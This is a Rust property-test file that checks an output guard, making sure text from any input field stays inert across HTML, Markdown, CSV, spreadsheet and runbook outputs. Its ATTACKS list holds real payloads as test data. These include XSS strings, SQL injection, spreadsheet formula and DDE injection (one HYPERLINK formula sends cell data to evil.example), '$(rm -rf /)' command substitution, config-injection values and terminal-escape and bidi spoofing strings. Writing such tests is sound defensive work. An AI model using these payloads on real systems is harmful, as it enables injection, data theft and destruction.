//! Property tests: any text in any input field stays inert in every output format.
//! (HTML adds no markup, Markdown tables keep their column count, the reports hold no raw control or
//! bidirectional character, runbooks gain no line, CSV parses back to the same values, and no spreadsheet
//! cell starts with a live formula character.)

use super::check_outputs;
use proptest::prelude::*;

/// Real attack strings, checked on every run whatever proptest generates.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(document.domain)>",
    "javascript:alert(1)",
    "<svg/onload=alert(1)>",
    "'; DROP TABLE findings; --",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    // Text that already carries the guard's own mark must come back exactly (found by proptest: "'@").
    "'@",
    "'=1+1",
    "\t=1+1",
    "\r=1+1",
    // Led by blanks or invisible characters, or by a full-width sign: still a formula (issue 18, item 14).
    " =1+1",
    "\u{a0}-2+3",
    "\u{200b}@SUM(1+1)",
    "\n+cmd|' /C calc'!A0",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "' ＝1",
    "a|b|c\n| --- |",
    "```\n<b>x</b>\n```",
    "````",
    "[link](javascript:alert(1))",
    "![img](http://evil.example/x.png)",
    "{{ 7*7 }} {% raw %}",
    "$(rm -rf /) `id` ${IFS}",
    "line1\r\nline2\u{2028}line3",
    // A new line in the AppSpec, a new member in a command's JSON (issue 18, item 11).
    "x\rHooks:\n  - BeforeInstall: arn:aws:lambda:eu-west-1:111122223333:function:evil",
    "subnet-0a],assignPublicIp=ENABLED,x=[",
    "x\" , \"assignPublicIp\": \"ENABLED",
    // Text that would steer a terminal or reorder what is read (issue 18, item 12).
    "\u{1b}[2J\u{1b}]8;;http://evil.example\u{7}click\u{1b}]8;;\u{7}",
    "nul\u{0}del\u{7f}csi\u{9b}31m",
    "invoice\u{202e}fdp.exe\u{2066}\u{200f}\u{61c}",
    "tab\tonly",
    "&lt;already&gt; &amp; &#x3C;",
    "",
];

#[test]
fn known_attack_strings_stay_inert_everywhere() {
    for a in ATTACKS {
        if let Err(e) = check_outputs(a) {
            panic!("{a:?}: {e}");
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 48, ..ProptestConfig::default() })]

    #[test]
    fn any_text_stays_inert_everywhere(text in any::<String>()) {
        prop_assert!(check_outputs(&text).is_ok(), "{:?}", check_outputs(&text).err());
    }

    #[test]
    fn markup_heavy_text_stays_inert_everywhere(text in "[<>&\"'`|=+@\\-\\t\\r\\n\\\\/\\[\\]()*_~$#! a-z]{0,40}") {
        prop_assert!(check_outputs(&text).is_ok(), "{:?}", check_outputs(&text).err());
    }
}
